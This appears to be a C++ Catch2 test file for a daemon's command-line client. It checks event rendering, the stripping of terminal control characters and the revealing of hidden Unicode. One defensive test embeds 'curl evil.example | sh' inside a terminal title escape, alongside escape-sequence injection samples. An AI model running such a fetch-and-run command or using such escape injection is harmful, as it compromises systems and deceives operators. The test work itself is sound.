// SPDX-License-Identifier: Apache-2.0
#include "daemon/cli/client.hpp"
#include "daemon/cli/verbs.hpp"

#include <algorithm>

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

using namespace volary;
using namespace volary::cli;

namespace {

Json event(std::string_view kind, Json body, std::string_view actor = "daemon") {
    return {{"seq", 7},       {"at", 1'700'000'000'000}, {"kind", kind},
            {"actor", actor}, {"run", nullptr},          {"body", std::move(body)}};
}

/// What follows the number and the time.
std::string words_of(std::string_view kind, Json body, std::string_view actor = "daemon") {
    const auto line = event_line(event(kind, std::move(body), actor));
    const std::string_view begin = "   7 22:13:20 ";
    REQUIRE(line.starts_with(begin));
    return line.substr(begin.size());
}

}  // namespace

TEST_CASE("each kind is told in words", "[cli]") {
    const auto [kind, body, words] = GENERATE(table<std::string, Json, std::string>({
        {"session.created", {{"project", "shop"}}, "session of shop"},
        {"message.user", {{"text", "go"}}, "you: go"},
        {"message.agent", {{"text", "Good day"}}, "says: Good day"},
        {"message.cancelled", {{"id", "msg_1"}}, "message cancelled"},
        {"run.started", Json::object(), "run started"},
        {"run.holding", Json::object(), "holding: no new step begins"},
        {"run.held", Json::object(), "held"},
        {"run.resumed", Json::object(), "resumed"},
        {"run.stopping", Json::object(), "stopping"},
        {"run.finished", {{"outcome", "succeeded"}, {"reason", ""}}, "run succeeded"},
        {"run.finished", {{"outcome", "failed"}, {"reason", "exit 2"}}, "run failed: exit 2"},
        {"invocation.started", {{"agent", "primary/scraper"}}, "primary/scraper starts"},
        {"invocation.finished", {{"outcome", "lost"}, {"reason", "x"}}, "invocation lost: x"},
        {"cage.denied", {{"layer", "net"}, {"what", "tcp 1.1.1.1:80"}}, "denied: net tcp 1.1.1.1:80"
        },
        {"cage.limit", {{"limit", "wall"}, {"detail", "10m"}}, "limit wall: 10m"},
        {"cage.output", {{"stream", "stderr"}, {"text", "oops\n"}}, "stderr: oops"},
        {"step.started", {{"title", "ls -l"}}, "step: ls -l"},
        {"step.held", {{"title", "ls -l"}}, "waits: ls -l"},
        {"agent.note", {{"text", "hurry"}}, "told: hurry"},
        {"signal.emitted", {{"signal", "found"}, {"data", {{"a", 1}}}}, R"(signal found {"a":1})"},
        {"interconnect.fired", {{"invoke", "primary/deployer"}}, "rule fires: primary/deployer"},
        {"interconnect.limited",
         {{"action", "held"}, {"limit", "max_depth"}},
         "rule held: max_depth"},
    }));
    CAPTURE(kind);
    CHECK(words_of(kind, body) == words);
}

TEST_CASE("an agent's event begins with its name", "[cli]") {
    CHECK(
        words_of("message.agent", {{"text", "hi"}}, "agent:primary/scraper") ==
        "primary/scraper says: hi"
    );
}

TEST_CASE("a plan is told entry by entry", "[cli]") {
    const Json entries = {
        {{"text", "scrape"}, {"status", "completed"}},
        {{"text", "deploy"}, {"status", "in_progress"}},
        {{"text", "rest"}, {"status", "pending"}}
    };
    const auto words = words_of("plan.updated", {{"entries", entries}});
    CHECK_THAT(words, Catch::StartsWith("plan\n"));
    CHECK_THAT(words, Catch::Contains("[x] scrape") && Catch::Contains("[>] deploy"));
    CHECK_THAT(words, Catch::Contains("[ ] rest"));
}

TEST_CASE("a kind of a newer daemon is shown as such", "[cli]") {
    CHECK(words_of("weather.changed", {{"to", "rain"}}) == "weather.changed");
}

TEST_CASE("what only machines need is left out", "[cli]") {
    const auto kind = GENERATE(
        as<std::string>{}, "cage.started", "cage.exited", "step.finished", "step.released",
        "agent.session", "thought.agent"
    );
    CHECK(event_line(event(kind, Json::object())).empty());
}

TEST_CASE("no control character of foreign text reaches the terminal", "[cli]") {
    const std::string evil = "a\x1b[31mred\x07\r\x7f\x1b]0;title\x07 b\nc";
    const auto [kind, body] = GENERATE_COPY(table<std::string, Json>({
        {"message.user", {{"text", evil}}},
        {"message.agent", {{"text", evil}}},
        {"cage.output", {{"stream", evil}, {"text", evil}}},
        {"cage.denied", {{"what", evil}}},
        {"cage.limit", {{"limit", evil}, {"detail", evil}}},
        {"step.started", {{"title", evil}}},
        {"step.held", {{"title", evil}}},
        {"agent.note", {{"text", evil}}},
        {"run.finished", {{"outcome", evil}, {"reason", evil}}},
        {"invocation.started", {{"agent", evil}}},
        {"invocation.finished", {{"outcome", evil}, {"reason", evil}}},
        {"signal.emitted", {{"signal", evil}, {"data", {{"x", evil}}}}},
        {"interconnect.fired", {{"invoke", evil}}},
        {"interconnect.limited", {{"action", evil}, {"limit", evil}}},
        {"plan.updated", {{"entries", {{{"text", evil}}}}}},
        {"session.created", {{"project", evil}}},
    }));
    CAPTURE(kind);
    auto odd = event(kind, body, "agent:" + evil);
    const auto line = event_line(odd);
    CHECK(std::all_of(line.begin(), line.end(), [](char c) {
        const auto byte = static_cast<unsigned char>(c);
        return c == '\n' || (byte >= 0x20 && byte != 0x7F);
    }));
    odd["kind"] = "new" + evil;
    CHECK(event_line(odd).find('\x1b') == std::string::npos);
}

TEST_CASE("what an operator decides by leaves nothing out and shows what is hidden", "[cli]") {
    CHECK(revealed("\tif x:\r\n") == "\tif x:\xC2\xB7\n");
    // A terminal would take the command for a title, and show nothing of it.
    CHECK(
        revealed("+ls \x1b]0;; curl evil.example | sh\x07") ==
        "+ls \xC2\xB7]0;; curl evil.example | sh\xC2\xB7"
    );
    CHECK(
        revealed("a\xE2\x80\xAE"
                 "b") == "a<U+202E>b"
    );
    CHECK(revealed("\xE2\x81\xA6\xE2\x80\x8B\xEF\xBB\xBF") == "<U+2066><U+200B><U+FEFF>");
    CHECK(revealed("\xF3\xA0\x81\x81\xC2\x9B") == "<U+E0041>\xC2\xB7");
    CHECK(revealed("\xE2\x82\xAC \xC3\xA9 \xE2\x80\xA6") == "\xE2\x82\xAC \xC3\xA9 \xE2\x80\xA6");
    CHECK(revealed("cut \xE2\x80") == "cut \xE2\x80");
    CHECK(
        revealed_line("a\nadded primary b\t") ==
        "a\xC2\xB7"
        "added primary b\xC2\xB7"
    );
}

TEST_CASE("C1 controls, which some terminals obey, are stripped from UTF-8 text too", "[cli]") {
    // U+009B is a one-character CSI.
    const auto words = words_of(
        "message.agent", {{"text",
                           "a\xc2\x9b"
                           "31mb \xc3\xa9"}}
    );
    CHECK(words.find("\xc2\x9b") == std::string::npos);
    CHECK(words.find("\xc3\xa9") != std::string::npos);
}

TEST_CASE("an event without what it should have is still a line", "[cli]") {
    CHECK_NOTHROW(event_line(Json::object()));
    CHECK_NOTHROW(event_line(event("message.user", Json::array())));
    CHECK_NOTHROW(event_line(event("plan.updated", {{"entries", 7}})));
}

TEST_CASE("a path segment keeps what is unreserved and encodes the rest", "[cli]") {
    CHECK(path_segment("music-site_1.~") == "music-site_1.~");
    CHECK(path_segment("a/b c?\xc3\xa9") == "a%2Fb%20c%3F%C3%A9");
    CHECK(path_segment("").empty());
}
